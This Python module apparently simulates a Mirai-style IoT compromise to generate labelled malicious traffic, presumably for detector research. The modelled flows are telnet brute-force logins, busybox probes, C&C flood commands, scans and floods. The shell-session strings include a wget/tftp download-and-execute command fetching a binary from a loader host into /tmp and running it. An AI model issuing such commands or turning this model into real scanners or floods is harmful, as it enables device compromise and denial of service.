"""Malicious traffic of a compromised device, modelled on what IoT honeypots record of Mirai.

Infection: telnet dictionary attack (23/2323), a shell session with busybox probes, payload
download (wget over HTTP, tftp over UDP), then an IRC-like C&C session whose commands start
telnet scans and floods (SYN, ACK, UDP, HTTP GET). Every flow's device side is the device.
"""

from __future__ import annotations

import heapq

from iotwatch.synth.devices import DeviceSim
from iotwatch.synth.packets import ACK, PROTO_TCP, PROTO_UDP, PSH, RST, SYN, Host, Tcp, syn_options

TELNET_NEGOTIATION = bytes.fromhex(
    "fffd18fffd20fffd23fffd27"
)  # IAC DO TTYPE/TSPEED/XDISPLOC/NEWENV
TELNET_REPLY = bytes.fromhex("fffb18fffb1ffffc20fffc23fffb27")
_PRIVATE = {0, 10, 100, 127, 169, 172, 192, 198, 203}
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7",
]


class AttackSim(DeviceSim):
    """Plays one compromise of one device into the malicious stream."""

    def random_ip(self) -> str:
        """A random routable address (the scanner's targets)."""
        r = self.rnd
        while True:
            a = r.integer(1, 224)
            if a not in _PRIVATE:
                return f"{a}.{r.integer(0, 256)}.{r.integer(0, 256)}.{r.integer(1, 255)}"

    def flow(self, label: str, proto: int, dev_port: int, peer: Host, peer_port: int):
        """FlowInfo labelled with the attack type."""
        self.label = label
        return self.info(proto, dev_port, peer, peer_port)

    def play(self, t: float) -> None:
        """The whole infection of this device starting at ``t``."""
        t = self.bruteforce(t)
        self.cnc(t + self.rnd.uniform(5.0, 60.0))

    # -- infection ---------------------------------------------------------------------------
    def bruteforce(self, t: float) -> float:
        """Failed telnet logins, then one that succeeds and runs busybox commands."""
        a = self.sc.attacks
        bf = a.bruteforce
        r = self.rnd
        attacker = self.wan(str(r.choice(a.attacker_ips)))
        port = int(r.choice(bf.ports))
        n = r.ispan(bf.attempts)
        aport = r.integer(32768, 61000)
        for i in range(n):
            ok = i == n - 1
            aport = 32768 + (aport - 32768 + 1 + r.integer(0, 30)) % 28000
            info = self.flow(
                "telnet_shell" if ok else "telnet_bruteforce", PROTO_TCP, port, attacker, aport
            )
            c = Tcp(
                self.net, info, client_is_dev=False, rtt=self.rtt(), dev_win=5840, peer_win=14600
            )
            t = c.connect(t)
            t = c.send(t + r.uniform(0.01, 0.1), True, TELNET_NEGOTIATION)
            t = c.send(t + c._delay(False), False, TELNET_REPLY)
            t = c.send(t + r.uniform(0.01, 0.05), True, b"\r\nlogin: ")
            user, pw = r.choice(bf.credentials) if not ok else bf.credentials[-1]
            t = c.send(t + c._delay(False), False, user.encode() + b"\r\n")
            t = c.send(t + r.uniform(0.005, 0.05), True, b"Password: ")
            t = c.send(t + c._delay(False), False, pw.encode() + b"\r\n")
            if not ok:
                t = c.send(t + r.uniform(0.5, 2.0), True, b"\r\nLogin incorrect\r\n")
                t = c.close(t + c._delay(False), dev_first=False, rst=r.chance(0.5))
                t += r.span(bf.gap_s)
                continue
            t = c.send(
                t + r.uniform(0.05, 0.3),
                True,
                b"\r\n\r\nBusyBox v1.19.4 (2014-03-11) built-in shell (ash)\r\n\r\n# ",
            )
            for cmd in bf.commands:
                t = c.send(
                    t + c._delay(False) + r.uniform(0.05, 0.5), False, cmd.encode() + b"\r\n"
                )
                word = cmd.rsplit(" ", 1)[-1]
                out = (
                    f"{word}: applet not found\r\n# "
                    if cmd.startswith("/bin/busybox")
                    else "\r\n# "
                )
                t = c.send(t + r.uniform(0.005, 0.05), True, out.encode())
            dl = a.download
            if dl.wget:
                cmd = f"/bin/busybox wget http://{a.loader_ip}{dl.path} -O - > /tmp/.m; chmod 777 /tmp/.m\r\n"
                t = c.send(t + c._delay(False), False, cmd.encode())
                t = self.wget(t + r.uniform(0.01, 0.1))
                t = c.send(t + 0.01, True, b"\r\n# ")
            if dl.tftp:
                cmd = f"/bin/busybox tftp -g -l /tmp/.t -r {dl.path.rsplit('/', 1)[-1]} {a.loader_ip}\r\n"
                t = c.send(t + c._delay(False), False, cmd.encode())
                t = self.tftp(t + r.uniform(0.01, 0.1))
                t = c.send(t + 0.01, True, b"\r\n# ")
            t = c.send(t + c._delay(False), False, b"/tmp/.m; /tmp/.t; /bin/busybox MIRAI\r\n")
            t = c.close(t + r.uniform(0.1, 1.0), dev_first=False)
        return t

    def wget(self, t: float) -> float:
        """HTTP GET of the bot binary from the loader."""
        a = self.sc.attacks
        r = self.rnd
        loader = self.wan(a.loader_ip)
        c = Tcp(
            self.net,
            self.flow("wget_download", PROTO_TCP, self.eport(), loader, 80),
            True,
            self.rtt(),
        )
        t = c.connect(t)
        req = f"GET {a.download.path} HTTP/1.0\r\nHost: {a.loader_ip}\r\n\r\n".encode()
        size = r.ispan(a.download.binary_bytes)
        hdr = f"HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n"
        t = c.exchange(t + 0.001, req, b"\x7fELF" + hdr.encode() + r.payload(size - 4))
        return c.close(t + 0.001, dev_first=False)

    def tftp(self, t: float) -> float:
        """TFTP read request to port 69, DATA blocks from the server's transfer port, ACKs."""
        a = self.sc.attacks
        r = self.rnd
        srv = self.wan(a.loader_ip)
        sport = self.eport()
        name = a.download.path.rsplit("/", 1)[-1].encode()
        f1 = self.net.em.new_flow(self.flow("tftp_download", PROTO_UDP, sport, srv, 69))
        self.net.udp(t, f1, self.host, sport, srv, 69, b"\x00\x01" + name + b"\x00octet\x00", True)
        tid = r.integer(1024, 65536)
        f2 = self.net.em.new_flow(self.flow("tftp_download", PROTO_UDP, sport, srv, tid))
        size = r.ispan(a.download.binary_bytes)
        rtt = self.rtt()
        for blk in range(1, size // 512 + 2):
            t += rtt
            n = min(512, size - (blk - 1) * 512)
            self.net.udp(t, f2, srv, tid, self.host, sport,
                         b"\x00\x03" + blk.to_bytes(2, "big") + r.payload(max(n, 0)), False)  # fmt: skip
            t += r.uniform(0.0002, 0.002)
            self.net.udp(
                t, f2, self.host, sport, srv, tid, b"\x00\x04" + blk.to_bytes(2, "big"), True
            )
        return t

    # -- command and control -----------------------------------------------------------------
    def cnc(self, t: float) -> None:
        """IRC-like C&C session: NICK/USER/JOIN, PING/PONG, and attack commands."""
        a = self.sc.attacks
        cc = a.cnc
        r = self.rnd
        srv = self.wan(a.cnc_ip)
        c = Tcp(self.net, self.flow("cnc", PROTO_TCP, self.eport(), srv, cc.port), True, self.rtt())
        t = c.connect(t)
        nick = f"[ARM7|{r.integer(0, 1 << 24):06x}]"
        t = c.send(t + 0.01, True, f"NICK {nick}\r\nUSER x 8 * :x\r\n".encode())
        t = c.send(t + c._delay(False), False, f":irc.local 001 {nick} :Welcome\r\n".encode())
        t = c.send(t + 0.05, True, f"JOIN {cc.channel}\r\n".encode())
        end = t + r.span(cc.duration_s)
        events: list[tuple[float, int, str]] = []
        n = 0
        tp = t
        while True:
            tp += r.span(cc.ping_s)
            if tp >= end:
                break
            n += 1
            events.append((tp, n, "ping"))
        for kind, count in (("scan", a.scan.episodes), ("syn_flood", a.syn_flood.episodes),
                            ("ack_flood", a.ack_flood.episodes), ("udp_flood", a.udp_flood.episodes),
                            ("http_flood", a.http_flood.episodes)):  # fmt: skip
            for _ in range(count):
                n += 1
                events.append((r.uniform(t + 1.0, end), n, kind))
        heapq.heapify(events)
        while events:
            te, _, kind = heapq.heappop(events)
            self.label = "cnc"
            if kind == "ping":
                t = c.send(max(te, c.t), False, b"PING :irc.local\r\n")
                c.send(t + r.uniform(0.01, 0.2), True, b"PONG :irc.local\r\n")
                continue
            victim = str(r.choice(a.victim_ips))
            msg = f":op!op@x PRIVMSG {cc.channel} :!{kind} {victim}\r\n"
            t = c.send(max(te, c.t), False, msg.encode())
            getattr(self, kind)(t + r.uniform(0.05, 0.5), victim)
        self.label = "cnc"
        c.close(max(end, c.t), dev_first=False, rst=r.chance(0.5))

    def scan(self, t: float, _victim: str) -> None:
        """Mirai telnet scanner: raw SYNs (seq = target address) to random hosts."""
        s = self.sc.attacks.scan
        r = self.rnd
        for _ in range(r.ispan(s.probes)):
            t += r.exp(1.0 / s.rate_pps)
            ip = self.random_ip()
            dst = self.wan(ip)
            port = 23 if r.chance(0.9) else int(r.choice(s.ports))
            c = Tcp(
                self.net,
                self.flow("scan", PROTO_TCP, r.integer(1024, 65536), dst, port),
                True,
                self.rtt(),
            )
            c.seq[True] = int.from_bytes(dst.ip4, "big")
            c.win[True] = r.integer(1000, 65535)
            c.pkt(t, True, SYN)
            if r.chance(s.rst_prob):
                c.seq[True] = (c.seq[True] + 1) & 0xFFFFFFFF
                c.pkt(t + c.rtt, False, RST | ACK)
            self._wan.pop(ip, None)  # random targets: do not keep them

    def _flood(self, t: float, victim: str, label: str) -> None:
        cfg = getattr(self.sc.attacks, label)
        r = self.rnd
        dst = self.wan(victim)
        for _ in range(r.ispan(cfg.packets)):
            t += r.exp(1.0 / cfg.rate_pps)
            sport = r.integer(1024, 65536)
            if label == "udp_flood":
                dport = r.integer(1024, 65536) if cfg.dport == 0 else cfg.dport
                fid = self.net.em.new_flow(self.flow(label, PROTO_UDP, sport, dst, dport))
                self.net.udp(
                    t,
                    fid,
                    self.host,
                    sport,
                    dst,
                    dport,
                    r.payload(r.ispan(cfg.payload_bytes)),
                    True,
                )
                continue
            dport = r.integer(1, 65536) if cfg.dport == 0 else cfg.dport
            c = Tcp(self.net, self.flow(label, PROTO_TCP, sport, dst, dport), True, self.rtt())
            if label == "syn_flood":
                c.pkt(t, True, SYN, opts=syn_options(1460, r.u32()))
            else:
                c.pkt(t, True, ACK | PSH, r.payload(r.ispan(cfg.payload_bytes)))

    def syn_flood(self, t: float, victim: str) -> None:
        """SYN flood from random source ports."""
        self._flood(t, victim, "syn_flood")

    def ack_flood(self, t: float, victim: str) -> None:
        """ACK flood with random payload."""
        self._flood(t, victim, "ack_flood")

    def udp_flood(self, t: float, victim: str) -> None:
        """UDP flood with random payload."""
        self._flood(t, victim, "udp_flood")

    def http_flood(self, t: float, victim: str) -> None:
        """HTTP GET flood: real connections, several requests each."""
        h = self.sc.attacks.http_flood
        r = self.rnd
        dst = self.wan(victim)
        for _ in range(r.ispan(h.connections)):
            c = Tcp(
                self.net,
                self.flow("http_flood", PROTO_TCP, self.eport(), dst, 80),
                True,
                self.rtt(),
            )
            tc = c.connect(t)
            for _ in range(r.ispan(h.requests_per_connection)):
                ua = str(r.choice(USER_AGENTS))
                req = f"GET / HTTP/1.1\r\nUser-Agent: {ua}\r\nHost: {victim}\r\nConnection: keep-alive\r\n\r\n"
                resp = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + r.payload(
                    r.ispan(h.response_bytes)
                )
                tc = c.exchange(tc + 0.001, req.encode(), resp)
            c.close(tc + 0.001, dev_first=r.chance(0.5), rst=r.chance(0.3))
            t += r.uniform(0.01, 0.2)
